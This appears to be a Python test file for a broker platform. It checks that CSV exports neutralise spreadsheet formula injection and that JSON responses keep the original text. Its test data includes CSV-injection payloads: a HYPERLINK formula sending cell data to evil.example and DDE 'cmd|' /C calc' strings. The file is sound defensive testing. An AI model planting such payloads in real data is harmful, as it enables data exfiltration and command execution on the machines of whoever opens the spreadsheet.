"""CSV reports open safely in a spreadsheet: text a client typed that a spreadsheet would run as
a formula (`=`, `+`, `-`, `@`, a leading tab or carriage return) is written with a leading `'`,
while numbers, negative money included, stay numbers. JSON answers keep the text as typed."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from brokerplane.core.group.commands import CreateGroup
from tests.dialects.native.conftest import Api

LOGIN = 930001
FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "comment": "@SUM(1+1)*cmd|' /C calc'!A0",
    "company": "-2+3+cmd|' /C calc'!A0",
    "phone": "+1 (555) 010",
    "city": "\t=1+1",
    "address": "\r=1+1",
}
HARMLESS = {"first_name": "Ann=Lee", "last_name": "O'Hara", "lead_source": "-5", "state": " =x"}


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_the_users_report_writes_formula_text_as_text_and_money_as_numbers(api: Api) -> None:
    api.open(login=LOGIN, **FORMULAS, **HARMLESS)
    with api.runtime.storage.uow() as uow:  # a negative balance, as trading losses leave
        uow.accounts.set_figures(LOGIN, -1_050, 0, 0, datetime(2031, 1, 1, tzinfo=UTC))
        uow.commit()

    response = api.get("/v1/reports/users", params={"format": "csv", "logins": str(LOGIN)})
    (row,) = _rows(response.text)

    assert {k: row[k] for k in FORMULAS} == {k: "'" + v for k, v in FORMULAS.items()}
    assert {k: row[k] for k in HARMLESS} == HARMLESS
    assert (row["balance"], row["credit"], row["login"]) == ("-10.50", "0.00", str(LOGIN))
    listed = api.get("/v1/reports/users", params={"logins": str(LOGIN)}).json()["items"][0]
    assert {k: listed[k] for k in FORMULAS} == FORMULAS


def test_the_ledger_history_writes_formula_comments_as_text_and_amounts_as_numbers(
    api: Api,
) -> None:
    api.open(login=LOGIN)
    deposit = {"login": LOGIN, "amount": "10", "comment": "=1+2", "reference": "@ref"}
    assert api.post("/v1/balances/deposit", deposit).status_code == 200
    withdrawal = {"login": LOGIN, "amount": "2.5", "comment": "+cmd", "reference": "-7"}
    assert api.post("/v1/balances/withdraw", withdrawal).status_code == 200

    response = api.get("/v1/balances/history", params={"format": "csv", "login": LOGIN})
    rows = _rows(response.text)

    assert [(r["comment"], r["reference"]) for r in rows] == [("'=1+2", "'@ref"), ("'+cmd", "-7")]
    assert [(r["amount"], r["balance"]) for r in rows] == [("10.00", "10.00"), ("-2.50", "7.50")]


def test_exposure_and_margin_call_csvs_write_a_formula_group_name_as_text(api: Api) -> None:
    api.runtime.app.create_group(CreateGroup("=desk", "USD"), api.admin)
    api.open(login=LOGIN, group="=desk")
    assert api.post("/v1/balances/deposit", {"login": LOGIN, "amount": "10000"}).status_code == 200
    quote = {"symbol": "EURUSD", "bid": "1.10000", "ask": "1.10020"}
    assert api.put("/v1/quotes", {"quotes": [quote]}, key=api.feed_key()).status_code == 200
    order = {"login": LOGIN, "symbol": "EURUSD", "side": "buy", "volume": "8"}
    assert api.post("/v1/positions", order).status_code == 201
    falls = {"symbol": "EURUSD", "bid": "1.09000", "ask": "1.09020"}
    assert api.put("/v1/quotes", {"quotes": [falls]}).status_code == 200

    exposure = _rows(api.get("/v1/reports/exposure", params={"format": "csv"}).text)
    calls = _rows(api.get("/v1/reports/margin-calls", params={"format": "csv"}).text)

    (line,) = [r for r in exposure if r["level"] == "line"]
    assert (line["group"], line["symbol"]) == ("'=desk", "EURUSD")
    assert line["client_profit"].startswith("-") and float(line["client_profit"]) < 0
    (call,) = calls
    assert (call["group"], call["balance"], call["state"]) == ("'=desk", "10000.00", "stop_out")
    assert api.get("/v1/reports/margin-calls").json()["items"][0]["group"] == "=desk"


def _excel_cells(text: str, separator: str) -> list[str]:
    """The cells Excel makes of a CSV on a desk whose list separator is `separator`: it splits
    on it, reading a quoted field whole."""
    reader = csv.reader(io.StringIO(text, newline=""), delimiter=separator)
    return [cell for row in reader for cell in row]


def _runs(cell: str) -> bool:
    return cell.startswith(("=", "+", "-", "@")) and not cell.lstrip("-").replace(".", "").isdigit()


def test_a_semicolon_in_text_cannot_start_a_formula_where_it_separates_cells(api: Api) -> None:
    api.open(login=LOGIN, email="a;=9+9@x.io", city="c;@SUM(1)", company='d;"-1+1')
    deposit = {"login": LOGIN, "amount": "10", "comment": "x;=1", "reference": "r;+1"}
    assert api.post("/v1/balances/deposit", deposit).status_code == 200

    report = api.get("/v1/reports/users", params={"format": "csv", "logins": str(LOGIN)}).text
    history = api.get("/v1/balances/history", params={"format": "csv", "login": LOGIN}).text

    for text in (report, history):
        for separator in (",", ";"):
            assert [c for c in _excel_cells(text, separator) if _runs(c)] == []
    (row,) = _rows(report)
    assert (row["email"], row["city"], row["company"]) == (
        "a;'=9+9@x.io",
        "c;'@SUM(1)",
        "d;'\"-1+1",
    )
    (entry,) = _rows(history)
    assert (entry["comment"], entry["reference"], entry["amount"]) == ("x;'=1", "r;'+1", "10.00")
    listed = api.get("/v1/reports/users", params={"logins": str(LOGIN)}).json()["items"][0]
    assert listed["email"] == "a;=9+9@x.io"
